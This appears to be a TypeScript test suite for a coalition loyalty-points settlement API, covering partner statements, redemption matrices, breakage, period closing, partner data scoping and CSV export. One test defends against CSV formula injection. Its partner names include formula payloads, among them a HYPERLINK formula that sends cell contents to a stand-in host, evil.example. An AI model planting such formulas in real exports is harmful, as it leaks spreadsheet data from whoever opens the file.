// Coalition settlement: terms, the statement (per partner, matrix, breakage), closing, partner views.
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { csvLine } from "../src/lib/csv";
import { buildStatement } from "../src/settlement/statement";
import { nextPeriod, periodOf, settlementPeriodFor } from "../src/ledger/periods";
import { accrue, call, createProgram, enroll, expectLedgerConsistent, redeem, type TestProgram } from "./helpers";

const NOW_PERIOD = periodOf(new Date(), "month");
const LAST_PERIOD = (() => {
  const d = new Date();
  return periodOf(new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth() - 1, 15)), "month");
})();
const inLastPeriod = (day: number) => `${LAST_PERIOD}-${String(day).padStart(2, "0")}T12:00:00Z`;

/** A coalition: the program plus partners A (the helper's partner) and B, with keys and terms. */
async function coalition(settings = {}) {
  const p = await createProgram({ expiry: { policy: "never" }, ...settings });
  const b = await call("/v1/partners", { key: p.admin, body: { name: "Brand B" } });
  const bKey = await call(`/v1/programs/${p.programId}/keys`, { key: env.ADMIN_TOKEN, body: { role: "partner", partnerId: b.json.id } });
  for (const [partnerId, issue, redeemPrice] of [
    [p.partnerId, 80, 100],
    [b.json.id, 90, 95],
  ] as const) {
    const res = await call(`/v1/partners/${partnerId}/terms`, {
      method: "PUT",
      key: p.admin,
      body: { validFrom: LAST_PERIOD, issuePrice: { amount: issue, perPoints: 100 }, redeemPrice: { amount: redeemPrice, perPoints: 100 } },
    });
    expect(res.status).toBe(200);
  }
  return { p, a: { id: p.partnerId, key: p.partner }, b: { id: b.json.id as string, key: bKey.json.key as string } };
}

function line(statement: any, partnerId: string | null) {
  return statement.partners.find((l: any) => l.partnerId === partnerId);
}

describe("settlement statement", () => {
  it("shows per partner what it issued and what was redeemed at it, and who issued what was redeemed where", async () => {
    const { p, a, b } = await coalition();
    await enroll(p.server, "ada");
    await accrue(a.key, "ada", 100_000, { orderId: "a-1", occurredAt: inLastPeriod(1) }); // 1000 points from A
    await accrue(b.key, "ada", 50_000, { orderId: "b-1", occurredAt: inLastPeriod(2) }); // 500 from B
    await accrue(p.server, "ada", 20_000, { orderId: "p-1", occurredAt: inLastPeriod(3) }); // 200 from the program
    // 1200 redeemed at B: oldest first, so 1000 of A's and 200 of B's.
    const atB = await redeem(b.key, "ada", 1200);
    expect(atB.status).toBe(201);
    // 100 redeemed at A then reversed: B's lot gives them and gets them back.
    const atA = await redeem(a.key, "ada", 100);
    expect((await call(`/v1/redemptions/${atA.json.id}/cancel`, { key: a.key, method: "POST" })).json.status).toBe("reversed");

    const earned = await call(`/v1/settlements/${LAST_PERIOD}`, { key: p.admin });
    expect(earned.status).toBe(200);
    expect(line(earned.json, a.id).issued).toEqual({ points: 1000, value: { amount: 800, currency: "EUR" } });
    expect(line(earned.json, b.id).issued).toEqual({ points: 500, value: { amount: 450, currency: "EUR" } });
    expect(line(earned.json, null).issued.points).toBe(200);

    const now = (await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin })).json;
    expect(now.status).toBe("open");
    expect(line(now, b.id).redeemedAt).toEqual({ grossPoints: 1200, reversedPoints: 0, netPoints: 1200, value: { amount: 1140, currency: "EUR" } });
    // Gross, reversed and net are named apart on the line and in the matrix alike; the money is on the net.
    expect(line(now, a.id).redeemedAt).toEqual({ grossPoints: 100, reversedPoints: 100, netPoints: 0, value: { amount: 0, currency: "EUR" } });
    expect(line(now, b.id).net).toEqual({ amount: -1140, currency: "EUR" });
    expect(now.matrix).toEqual(
      expect.arrayContaining([
        { issuer: a.id, redeemer: b.id, grossPoints: 1000, reversedPoints: 0, netPoints: 1000 },
        { issuer: b.id, redeemer: b.id, grossPoints: 200, reversedPoints: 0, netPoints: 200 },
        { issuer: b.id, redeemer: a.id, grossPoints: 100, reversedPoints: 100, netPoints: 0 },
      ]),
    );
    expect(now.reconciliation.every((r: { ok: boolean }) => r.ok)).toBe(true);
    await expectLedgerConsistent(p.programId, p.server);
  });

  it("credits clawbacks at the issue price and shows breakage per issuing partner", async () => {
    const { p, a, b } = await coalition({ expiry: { policy: "rolling", days: 1 } });
    await enroll(p.server, "ada");
    await accrue(a.key, "ada", 100_000, { orderId: "a-old", occurredAt: inLastPeriod(1) }); // expires a day later
    await accrue(b.key, "ada", 10_000, { orderId: "b-now" });
    const refund = await call("/v1/members/ada/refunds", { key: b.key, body: { orderId: "b-now", amount: { amount: 5_000, currency: "EUR" } } });
    expect(refund.json.pointsClawedBack).toBe(50);
    const run = await call("/v1/jobs/expire-points/run", { key: p.admin, method: "POST" });
    expect(run.status).toBe(200);
    const s = (await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin })).json;
    expect(line(s, b.id).clawedBack).toEqual({ points: 50, value: { amount: 45, currency: "EUR" } });
    expect(line(s, b.id).net.amount).toBe(90 - 45);
    expect(s.reconciliation.every((r: { ok: boolean }) => r.ok)).toBe(true);
    // The points expired on their own date, in the period they were earned in: breakage lands there.
    const earlier = (await call(`/v1/settlements/${LAST_PERIOD}`, { key: p.admin })).json;
    expect(earlier.breakage).toEqual(expect.arrayContaining([{ issuer: a.id, expired: 1000 }]));
    expect(line(earlier, a.id).expired).toBe(1000);
  });

  it("refuses a statement that does not reconcile", async () => {
    const { p, a } = await coalition();
    await enroll(p.server, "ada");
    await accrue(a.key, "ada", 10_000);
    // A write around the ledger: the lot loses a point no entry explains.
    await env.DB.prepare("UPDATE lots SET remaining = remaining - 1 WHERE program_id = ?").bind(p.programId).run();
    const res = await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin });
    expect(res.status).toBe(500);
    expect(res.json.code).toBe("settlement_unreconciled");
    expect(res.json.reconciliation[0]).toMatchObject({ issuer: a.id, fromFlows: 100, inLots: 99, ok: false });
  });
});

describe("gross, reversed and net redemptions", () => {
  it("are named apart in the document's schema", async () => {
    const doc = (await call("/openapi.json")).json;
    const statement = doc.components.schemas.SettlementStatement;
    const cell = statement.properties.matrix.items.properties;
    expect(Object.keys(cell).sort()).toEqual(["grossPoints", "issuer", "netPoints", "redeemer", "reversedPoints"]);
    const redeemedAt = statement.properties.partners.items.properties.redeemedAt.properties;
    expect(Object.keys(redeemedAt).sort()).toEqual(["grossPoints", "netPoints", "reversedPoints", "value"]);
  });

  it("reads a statement frozen before they were named apart in today's names", async () => {
    const { p, a } = await coalition();
    const old = {
      period: "2020-01", currency: "EUR", rounding: "x", breakage: [], reconciliation: [],
      partners: [{ partnerId: a.id, name: "A", terms: null, issued: { points: 0, value: { amount: 0, currency: "EUR" } }, clawedBack: { points: 0, value: { amount: 0, currency: "EUR" } }, redeemedAt: { points: 70, reversedPoints: 30, value: { amount: 70, currency: "EUR" } }, expired: 0, net: { amount: -70, currency: "EUR" } }],
      matrix: [{ issuer: null, redeemer: a.id, redeemed: 100, reversed: 30 }],
    };
    await env.DB.prepare("INSERT INTO settlement_periods (program_id, period, closed_at, statement) VALUES (?, '2020-01', '2020-02-01T00:00:00.000Z', ?)")
      .bind(p.programId, JSON.stringify(old))
      .run();
    const s = (await call("/v1/settlements/2020-01", { key: p.admin })).json;
    expect(s.partners[0].redeemedAt).toEqual({ grossPoints: 100, reversedPoints: 30, netPoints: 70, value: { amount: 70, currency: "EUR" } });
    expect(s.matrix).toEqual([{ issuer: null, redeemer: a.id, grossPoints: 100, reversedPoints: 30, netPoints: 70 }]);
  });
});

describe("closing a period", () => {
  it("freezes the statement; late postings land in the next open period and say so", async () => {
    const { p, a } = await coalition();
    await enroll(p.server, "ada");
    await accrue(a.key, "ada", 10_000, { orderId: "in-time", occurredAt: inLastPeriod(10) });
    expect((await call(`/v1/settlements/${NOW_PERIOD}/close`, { key: p.admin, method: "POST" })).json.code).toBe("period_not_over");
    const closed = await call(`/v1/settlements/${LAST_PERIOD}/close`, { key: p.admin, method: "POST" });
    expect(closed.status).toBe(200);
    expect(closed.json.status).toBe("closed");
    expect(line(closed.json, a.id).issued.points).toBe(100);

    const late = await accrue(a.key, "ada", 20_000, { orderId: "late", occurredAt: inLastPeriod(11) });
    expect(late.status).toBe(201);
    expect(late.json.settlement).toEqual({ period: NOW_PERIOD, movedFrom: LAST_PERIOD });
    const again = await call(`/v1/settlements/${LAST_PERIOD}`, { key: p.admin });
    expect(again.json).toEqual(closed.json);
    const open = await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin });
    expect(line(open.json, a.id).issued.points).toBe(200);

    // Terms of a closed period stay as they were; later periods may change.
    const terms = (validFrom: string) =>
      call(`/v1/partners/${a.id}/terms`, { method: "PUT", key: p.admin, body: { validFrom, issuePrice: { amount: 1, perPoints: 1 }, redeemPrice: { amount: 1, perPoints: 1 } } });
    expect((await terms(LAST_PERIOD)).json.code).toBe("period_closed");
    expect((await terms(NOW_PERIOD)).status).toBe(200);
    expect((await call(`/v1/settlements/${LAST_PERIOD}`, { key: p.admin })).json).toEqual(closed.json);
    // Closing again answers with the same frozen statement.
    expect((await call(`/v1/settlements/${LAST_PERIOD}/close`, { key: p.admin, method: "POST" })).json).toEqual(closed.json);
    await expectLedgerConsistent(p.programId, p.server);
  });

  it("closes periods in order only", async () => {
    const { p } = await coalition();
    const older = periodOf(new Date(Date.UTC(new Date().getUTCFullYear(), new Date().getUTCMonth() - 3, 15)), "month");
    expect((await call(`/v1/settlements/${older}/close`, { key: p.admin, method: "POST" })).status).toBe(200);
    const skip = nextPeriod(nextPeriod(older));
    const res = await call(`/v1/settlements/${skip}/close`, { key: p.admin, method: "POST" });
    expect(res.status).toBe(409);
    expect(res.json).toMatchObject({ code: "period_out_of_order", nextToClose: nextPeriod(older) });
  });

  it("refuses an entry in a closed period even from a batch built before the close", async () => {
    const { p } = await coalition();
    await env.DB.prepare("UPDATE programs SET closed_through = ? WHERE id = ?").bind(LAST_PERIOD, p.programId).run();
    await expect(
      env.DB.prepare(
        "INSERT INTO entries (id, program_id, member_id, type, points, occurred_at, settlement_period, created_at) VALUES ('ent_x', ?, 'm', 'adjust', 0, 'x', ?, 'x')",
      )
        .bind(p.programId, LAST_PERIOD)
        .run(),
    ).rejects.toThrow(/settlement_period_closed/);
  });
});

describe("what a partner sees", () => {
  async function twoPartners(): Promise<{ p: TestProgram; a: { id: string; key: string }; b: { id: string; key: string } }> {
    const { p, a, b } = await coalition();
    await enroll(p.server, "ada");
    await accrue(a.key, "ada", 100_000, { orderId: "a-1" });
    await accrue(b.key, "ada", 100_000, { orderId: "b-1" });
    await redeem(b.key, "ada", 1500);
    return { p, a, b };
  }

  it("sees its own line and its own row and column of the matrix, also as CSV", async () => {
    const { a, b } = await twoPartners();
    const mine = await call(`/v1/settlements/${NOW_PERIOD}`, { key: a.key });
    expect(mine.json.partners.map((l: any) => l.partnerId)).toEqual([a.id]);
    expect(mine.json.matrix.every((m: any) => m.issuer === a.id || m.redeemer === a.id)).toBe(true);
    const csv = await call(`/v1/settlements/${NOW_PERIOD}`, { key: b.key, headers: { accept: "text/csv" } });
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const rows = (csv.json as string).trim().split("\r\n");
    expect(rows[0]).toBe(
      "section,partner_id,name,issued_points,issued_value,clawed_back_points,clawed_back_value,redeemed_gross_points,redeemed_reversed_points,redeemed_net_points,redeemed_net_value,expired_points,net_amount,currency",
    );
    expect(rows[1]).toBe(`partner,${b.id},Brand B,1000,900,0,0,1500,0,1500,1425,0,-525,EUR`);
    expect(rows).toContain("section,issuer,redeemer,redeemed_gross_points,redeemed_reversed_points,redeemed_net_points");
    expect(rows).toContain(`matrix,${a.id},${b.id},1000,0,1000`);
  });

  it("lists only its own transactions, by period", async () => {
    const { p, a, b } = await twoPartners();
    const own = await call("/v1/partner/transactions", { key: a.key });
    expect(own.status).toBe(200);
    expect(own.json.data.length).toBeGreaterThan(0);
    expect(own.json.data.every((e: any) => e.partnerId === a.id)).toBe(true);
    const byPeriod = await call(`/v1/partner/transactions?period=${LAST_PERIOD}`, { key: b.key });
    expect(byPeriod.json.data).toEqual([]);
    expect((await call("/v1/partner/transactions", { key: p.server })).status).toBe(403);
    expect((await call(`/v1/partners/${b.id}/terms`, { key: a.key })).status).toBe(404);
    expect((await call(`/v1/partners/${a.id}/terms`, { key: a.key })).json.data[0].validFrom).toBe(LAST_PERIOD);
  });
});

describe("the CSV statement", () => {
  it("writes names that look like formulas as text, not formulas", async () => {
    const p = await createProgram({ expiry: { policy: "never" } });
    const names = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned", "Plain, with comma"];
    for (const name of names) expect((await call("/v1/partners", { key: p.admin, body: { name } })).status).toBe(201);
    const csv = await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin, headers: { accept: "text/csv" } });
    expect(csv.status).toBe(200);
    const text = csv.json as string;
    const nameCells = parseCsv(text)
      .filter((row) => row[0] === "partner" && row[1] !== "program")
      .map((row) => row[2]!);
    expect(nameCells.sort()).toEqual(
      ["'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturned", "Plain, with comma", "Partner brand"].sort(),
    );
    // Numbers stay numbers, negative ones too.
    expect(parseCsv(text).every((row) => row.every((cell) => !/^[=+@\t\r]/.test(cell)))).toBe(true);
  });

  it("keeps a negative amount a number", () => {
    expect(csvLine(["partner", -525, 0, "-x"])).toBe("partner,-525,0,'-x");
  });
});

/** Just enough CSV parsing for the tests: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    else cell += ch;
  }
  return rows;
}

describe("reconciliation after random ledgers", () => {
  it.each([1, 2, 3, 4, 5])("reconciles for every partner (seed %i)", async (seed) => {
    let state = seed * 7919;
    const rand = (n: number) => {
      state = (state * 1103515245 + 12345) % 2147483648;
      return state % n;
    };
    const { p, a, b } = await coalition();
    const keys = [p.server, a.key, b.key];
    const members = ["m1", "m2", "m3"];
    for (const m of members) await enroll(p.server, m);
    const orders: { key: string; member: string; orderId: string; amount: number }[] = [];
    const redemptions: { key: string; id: string }[] = [];
    for (let step = 0; step < 40; step++) {
      const key = keys[rand(3)]!;
      const member = members[rand(3)]!;
      const op = rand(5);
      if (op <= 1) {
        const orderId = `o-${seed}-${step}`;
        const amount = 1000 + rand(50_000);
        const res = await accrue(key, member, amount, { orderId, occurredAt: rand(2) ? inLastPeriod(1 + rand(20)) : undefined });
        if (res.status === 201) orders.push({ key, member, orderId, amount });
      } else if (op === 2) {
        const res = await redeem(key, member, 1 + rand(300), { mode: rand(2) ? "hold" : "capture" });
        if (res.status === 201) redemptions.push({ key, id: res.json.id });
      } else if (op === 3 && redemptions.length > 0) {
        const r = redemptions[rand(redemptions.length)]!;
        await call(`/v1/redemptions/${r.id}/${rand(2) ? "capture" : "cancel"}`, { key: r.key, method: "POST" });
      } else if (orders.length > 0) {
        const o = orders[rand(orders.length)]!;
        await call(`/v1/members/${o.member}/refunds`, { key: o.key, body: { orderId: o.orderId, amount: { amount: 1 + rand(o.amount), currency: "EUR" } } });
      }
    }
    for (const period of [LAST_PERIOD, NOW_PERIOD]) {
      const s = await call(`/v1/settlements/${period}`, { key: p.admin });
      expect(s.status, period).toBe(200);
      expect(s.json.reconciliation.every((r: { ok: boolean }) => r.ok)).toBe(true);
    }
    await expectLedgerConsistent(p.programId, p.server);
  });
});

describe("statement arithmetic", () => {
  it("prices each line once, rounding half up, and nets issue against redemption", () => {
    const s = buildStatement({
      period: "2026-11",
      currency: "EUR",
      partners: [{ id: "x", name: "X", terms: { validFrom: "2026-01", issuePrice: { amount: 1, perPoints: 3 }, redeemPrice: { amount: 2, perPoints: 3 } } }],
      flows: [{ issuer: "x", issued: 10, debtPaid: 0, expired: 0, clawedFromLot: 1, clawedFromExpired: 0, clawedToDebt: 0 }],
      cross: [{ issuer: "x", redeemer: "x", grossPoints: 5, reversedPoints: 1 }],
      allTimeFlows: [],
      allTimeCross: [],
      outstandingInLots: [],
    });
    const x = s.partners.find((l) => l.partnerId === "x")!;
    expect(x.issued.value.amount).toBe(3); // 10/3 = 3.33 -> 3
    expect(x.clawedBack.value.amount).toBe(0); // 1/3 -> 0
    expect(x.redeemedAt.value.amount).toBe(3); // 4 x 2/3 = 2.67 -> 3
    expect(x.net.amount).toBe(0);
  });

  it("moves an entry for a closed period to the first open one", () => {
    expect(settlementPeriodFor(new Date("2026-10-31T23:59:59Z"), "month", null)).toBe("2026-10");
    expect(settlementPeriodFor(new Date("2026-10-31T23:59:59Z"), "month", "2026-10")).toBe("2026-11");
    expect(settlementPeriodFor(new Date("2026-02-10T00:00:00Z"), "quarter", "2026-Q2")).toBe("2026-Q3");
    expect(nextPeriod("2026-12")).toBe("2027-01");
    expect(nextPeriod("2026-Q4")).toBe("2027-Q1");
  });
});
